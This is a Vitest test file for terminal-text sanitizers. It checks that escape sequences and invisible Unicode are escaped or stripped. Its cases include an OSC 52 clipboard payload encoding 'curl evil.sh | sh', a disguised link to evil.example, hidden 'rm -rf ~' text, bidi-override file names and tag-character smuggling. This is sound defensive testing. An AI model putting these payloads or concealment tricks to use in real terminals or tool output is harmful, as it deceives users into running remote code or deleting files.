import { describe, expect, it } from 'vitest'
import { inertDeep, inertText, strippedText } from './terminalText'
import { expectInert } from './terminalText.test-support'

// Cases from public write-ups; each is shown escaped, the visible text around it kept.
const CASES: Array<[string, string, string]> = [
  // OSC 52 clipboard write (Trail of Bits, "Deceiving users with ANSI terminal codes in MCP", 2025).
  [
    'OSC 52 clipboard',
    'ok\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07',
    'ok\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07',
  ],
  // OSC 8 link whose text hides its target (Rehberger, "Terminal DiLLMa", 2024).
  [
    'OSC 8 link',
    '\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\',
    '\\x1b]8;;https://evil.example/\\x1b\\docs\\x1b]8;;\\x1b\\',
  ],
  // SGR 8 hidden text and a cursor move that overwrites the line (HD Moore, 2003).
  ['hidden text', 'safe\x1b[8mrm -rf ~\x1b[0m', 'safe\\x1b[8mrm -rf ~\\x1b[0m'],
  ['cursor up + erase', 'a\x1b[1A\x1b[2Kb', 'a\\x1b[1A\\x1b[2Kb'],
  // A lone CR or backspaces overwrite what was printed; CR LF stays.
  ['lone CR', 'evil\rgood', 'evil\\x0dgood'],
  ['backspace', 'rm\b\bls', 'rm\\x08\\x08ls'],
  ['CR LF kept', 'a\r\nb', 'a\r\nb'],
  // C1 CSI (U+009B) and OSC (U+009D): one-character forms of ESC [ and ESC ].
  ['C1 CSI and OSC', '\u009b2J\u009d0;title\u009c', '\\x9b2J\\x9d0;title\\x9c'],
  // Trojan Source, CVE-2021-42574: RLO reorders what is shown.
  ['bidi override', 'file\u202Etxt.exe', 'file\\u{202e}txt.exe'],
  ['bidi isolate', '\u2066x\u2069', '\\u{2066}x\\u{2069}'],
  // ASCII smuggling: tag characters are invisible (Rehberger, 2024).
  ['tag characters', 'hi\u{E0041}\u{E0042}', 'hi\\u{e0041}\\u{e0042}'],
  ['DEL and NUL', 'a\x7f\x00', 'a\\x7f\\x00'],
]

describe('inertText', () => {
  it.each(CASES)('%s is shown escaped', (_name, input, shown) => {
    expect(inertText(input)).toBe(shown)
    expectInert(inertText(input))
  })

  it('keeps plain text, tabs, new lines, accents, CJK and emoji as they are', () => {
    const text = 'héllo\tworld\n日本語 👩‍💻 ✓ → …'
    expect(inertText(text)).toBe(text)
  })
})

describe('inertDeep', () => {
  it('escapes every string of an event, keys included, and leaves other values', () => {
    const event = {
      type: 'tool.started',
      seq: 3,
      ok: true,
      args: { path: 'a\x1b[2J.ts', list: ['\u202e', 1], nested: { '\x1bk': null } },
    }
    expect(inertDeep(event)).toEqual({
      type: 'tool.started',
      seq: 3,
      ok: true,
      args: { path: 'a\\x1b[2J.ts', list: ['\\u{202e}', 1], nested: { '\\x1bk': null } },
    })
    expect(event.args.path).toBe('a\x1b[2J.ts')
  })
})

describe('strippedText', () => {
  it('drops what inertText escapes, so a view without escapes shows the visible text only', () => {
    // ASCII smuggling (tag characters), Trojan Source (U+202E), OSC 52 and a lone CR.
    const text = 'ok\u{e0041}\u202egnp.exe\x1b]52;c;ZWNobw==\x07 a\rb\r\nc'
    expect(strippedText(text)).toBe('okgnp.exe]52;c;ZWNobw== a\nb\nc')
    expectInert(strippedText(text))
  })
})
